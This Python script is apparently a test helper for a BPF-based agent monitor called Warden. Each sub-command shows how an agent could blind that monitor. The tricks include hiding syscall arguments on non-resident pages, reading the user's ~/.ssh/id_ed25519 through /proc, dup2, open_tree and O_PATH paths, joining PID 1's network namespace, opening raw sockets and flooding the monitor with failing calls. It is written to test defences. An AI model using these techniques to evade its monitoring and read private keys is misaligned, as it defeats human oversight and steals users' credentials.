#!/usr/bin/env python3
"""What an agent that read Warden's source would do to blind it (issue #17), one trick per
sub-command, with nothing but the standard library (ctypes for the raw system calls).

  nonresident-connect PORT        connect(127.0.0.1:PORT) with the sockaddr on a page not resident
  nonresident-rename SRC DST      rename(SRC, DST) with DST on a page not resident
  nonresident-dns IP NAME         a DNS query to IP:53 sent from a page not resident
  dup2-read HOME                  open an innocent directory, dup2 HOME over it, read .ssh/id_ed25519 relative to it
  proc-root-read HOME             read /proc/self/root/HOME/.ssh/id_ed25519
  proc-cwd-read HOME              chdir HOME/project, read /proc/self/cwd/../.ssh/id_ed25519
  open-tree-read HOME             open_tree(HOME, OPEN_TREE_CLONE) (a detached copy), read .ssh/id_ed25519 in it
  opath-fd-read HOME              open(HOME, O_PATH), read /proc/self/fd/N/.ssh/id_ed25519
  setns-init                      setns into PID 1's network namespace (ours where PID 1's is closed)
  packet-socket                   socket(AF_PACKET, SOCK_RAW) and socket(AF_INET, SOCK_RAW, ICMP)
  userfaultfd                     userfaultfd(0)
  setresuid-root                  setresuid(0, 0, 0) (run as a setuid-root copy by another user)
  dns-unconnected IP NAME         a DNS query with sendto and the answer with recvmsg on an unconnected UDP socket
  flood-utimensat N SECONDS       N failing utimensat calls on 4 KiB paths (bounded by SECONDS)
"""
import ctypes
import ctypes.util
import os
import socket
import struct
import sys
import time

libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.syscall.restype = ctypes.c_long

PROT_READ, PROT_WRITE = 1, 2
MAP_SHARED = 1
MADV_DONTNEED = 4
AT_FDCWD = -100
PAGE = 4096


def nonresident(data: bytes) -> int:
    """Address of `data` on a file-backed page that is not mapped in: the kernel can fault it in
    (copy_from_user), a BPF program at syscall entry cannot read it."""
    path = f'/tmp/warden-nonres-{os.getpid()}'
    fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
    os.unlink(path)
    os.write(fd, data.ljust(PAGE, b'\0'))
    addr = libc.mmap(None, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), 'mmap')
    if libc.madvise(addr, PAGE, MADV_DONTNEED) != 0:
        raise OSError(ctypes.get_errno(), 'madvise')
    return addr


def sockaddr_in(ip: str, port: int) -> bytes:
    return struct.pack('<H', socket.AF_INET) + struct.pack('>H', port) + socket.inet_aton(ip) + b'\0' * 8


def dns_query(name: str) -> bytes:
    q = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0'
    return struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + q + struct.pack('>HH', 1, 1)


def nonresident_connect(port: str) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    addr = nonresident(sockaddr_in('127.0.0.1', int(port)))
    r = libc.connect(s.fileno(), ctypes.c_void_p(addr), 16)
    print('connect', r, ctypes.get_errno())
    s.close()


def nonresident_rename(src: str, dst: str) -> None:
    addr = nonresident(dst.encode() + b'\0')
    r = libc.rename(src.encode(), ctypes.c_void_p(addr))
    print('rename', r, ctypes.get_errno())


def nonresident_dns(ip: str, name: str) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    q = dns_query(name)
    buf = nonresident(q)
    sa = sockaddr_in(ip, 53)
    r = libc.sendto(s.fileno(), ctypes.c_void_p(buf), len(q), 0, sa, 16)
    print('sendto', r, ctypes.get_errno())
    s.settimeout(2)
    try:
        s.recv(512)
    except OSError:
        pass


def read_at(dirfd: int, rel: str) -> None:
    fd = os.open(rel, os.O_RDONLY, dir_fd=dirfd)
    os.read(fd, 100)
    os.close(fd)


def dup2_read(home: str) -> None:
    d = os.open('/usr/share/doc', os.O_RDONLY | os.O_DIRECTORY)
    h = os.open(home, os.O_RDONLY | os.O_DIRECTORY)
    os.dup2(h, d)
    read_at(d, '.ssh/id_ed25519')


def proc_root_read(home: str) -> None:
    with open(f'/proc/self/root{home}/.ssh/id_ed25519', 'rb') as f:
        f.read()


def proc_cwd_read(home: str) -> None:
    os.chdir(os.path.join(home, 'project'))
    with open('/proc/self/cwd/../.ssh/id_ed25519', 'rb') as f:
        f.read()


def open_tree_read(home: str) -> None:
    OPEN_TREE_CLONE, OPEN_TREE_CLOEXEC = 1, 0o2000000
    fd = libc.syscall(428, AT_FDCWD, home.encode(), OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC)
    if fd < 0:
        raise OSError(ctypes.get_errno(), 'open_tree')
    read_at(fd, '.ssh/id_ed25519')


def opath_fd_read(home: str) -> None:
    fd = os.open(home, os.O_PATH)
    with open(f'/proc/self/fd/{fd}/.ssh/id_ed25519', 'rb') as f:
        f.read()


def setns_init() -> None:
    try:
        fd = os.open('/proc/1/ns/net', os.O_RDONLY)
    except PermissionError:  # PID 1's namespaces are closed in some VMs: the host's are ours
        fd = os.open('/proc/self/ns/net', os.O_RDONLY)
    print('setns', libc.setns(fd, 0), ctypes.get_errno())


def packet_socket() -> None:
    for fam, ty, proto in ((socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)):
        try:
            socket.socket(fam, ty, proto).close()
        except OSError as e:
            print('socket', e)


def userfaultfd() -> None:
    print('userfaultfd', libc.syscall(323, 0), ctypes.get_errno())


def setresuid_root() -> None:
    os.setresuid(0, 0, 0)


def dns_unconnected(ip: str, name: str) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(dns_query(name), (ip, 53))
    s.settimeout(3)
    data, _anc, _flags, src = s.recvmsg(512)
    print('answer', len(data), src)


def flood_utimensat(n: str, seconds: str) -> None:
    long = '/nonexistent-' + 'x' * 240 + '/' + ('y' * 250 + '/') * 15
    deadline = time.monotonic() + float(seconds)
    for i in range(int(n)):
        try:
            os.utime(long + str(i % 1000))
        except OSError:
            pass
        if i % 4096 == 0 and time.monotonic() > deadline:
            break


COMMANDS = {
    'nonresident-connect': nonresident_connect,
    'nonresident-rename': nonresident_rename,
    'nonresident-dns': nonresident_dns,
    'dup2-read': dup2_read,
    'proc-root-read': proc_root_read,
    'proc-cwd-read': proc_cwd_read,
    'open-tree-read': open_tree_read,
    'opath-fd-read': opath_fd_read,
    'setns-init': setns_init,
    'packet-socket': packet_socket,
    'userfaultfd': userfaultfd,
    'setresuid-root': setresuid_root,
    'dns-unconnected': dns_unconnected,
    'flood-utimensat': flood_utimensat,
}

if __name__ == '__main__':
    COMMANDS[sys.argv[1]](*sys.argv[2:])
